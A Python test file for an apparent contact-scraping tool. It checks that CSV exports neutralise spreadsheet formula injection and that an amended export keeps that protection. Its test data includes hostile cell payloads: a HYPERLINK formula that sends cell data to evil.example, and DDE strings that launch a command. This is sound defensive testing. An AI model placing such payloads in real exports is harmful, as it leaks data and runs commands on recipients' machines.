"""CSV formula injection (issue 10 item 11): every CSV cell the tool writes that a spreadsheet
would run is written as text; JSON Lines is untouched; an amended export keeps the guard."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from support.tooling import add_contact, make_env

from compliant_scraper.values.spreadsheet import neutralise_cell, restore_cell

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- Directeur", "'- Directeur"),
        # a plain number holds no formula: E.164 phones stay as they are
        ("+33612345678", "+33612345678"),
        ("-12.5", "-12.5"),
        ("Jeanne Martin", "Jeanne Martin"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_text(value: str, written: str) -> None:
    assert neutralise_cell(value) == written
    assert restore_cell(written) == value


def test_an_export_neutralises_a_crawled_formula_in_csv_not_in_jsonl(tmp_path: Path) -> None:
    env = make_env(tmp_path)
    add_contact(env.db, purpose="b2b_email", name=HOSTILE, email="jm@firm.fr", job_title="@boss")
    out = tmp_path / "e.csv"
    args = ["--db", str(env.db_path), "--policies", str(env.policies)]
    result = env.run(
        "export", "--purpose", "b2b_email", "--format", "csv", "--out", str(out), *args
    )
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(out.read_text())))
    assert row["name"] == "'" + HOSTILE
    assert row["job_title"] == "'@boss"
    assert row["email"] == "jm@firm.fr"
    as_jsonl = env.run("export", "--purpose", "b2b_email", "--format", "jsonl", *args)
    assert json.loads(as_jsonl.output.splitlines()[0])["name"] == HOSTILE


def test_an_amended_export_keeps_the_guard(tmp_path: Path) -> None:
    env = make_env(tmp_path)
    add_contact(env.db, purpose="b2b_email", name=HOSTILE, email="jm@firm.fr")  # 1
    add_contact(env.db, purpose="b2b_email", name="Gone", email="gone@firm.fr")  # 2
    out = tmp_path / "e.csv"
    args = ["--db", str(env.db_path), "--policies", str(env.policies)]
    exported = env.run(
        "export", "--purpose", "b2b_email", "--format", "csv", "--out", str(out), *args
    )
    assert exported.exit_code == 0, exported.output
    erased = env.run("subject", "erase", "gone@firm.fr", "--yes", "--db", str(env.db_path))
    assert erased.exit_code == 0, erased.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [(r["id"], r["name"]) for r in rows] == [("1", "'" + HOSTILE)]
